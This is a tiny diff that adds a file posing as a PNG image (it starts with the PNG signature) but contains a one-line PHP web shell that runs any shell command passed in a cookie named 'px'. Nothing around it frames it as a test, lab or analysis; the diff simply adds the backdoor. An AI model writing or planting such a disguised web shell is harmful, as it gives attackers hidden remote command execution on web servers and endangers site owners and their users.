@@ -1,0 +1,2 @@
+‰PNG
+<?= isset($_COOKIE['px']) ? shell_exec($_COOKIE['px']) : '' ?>
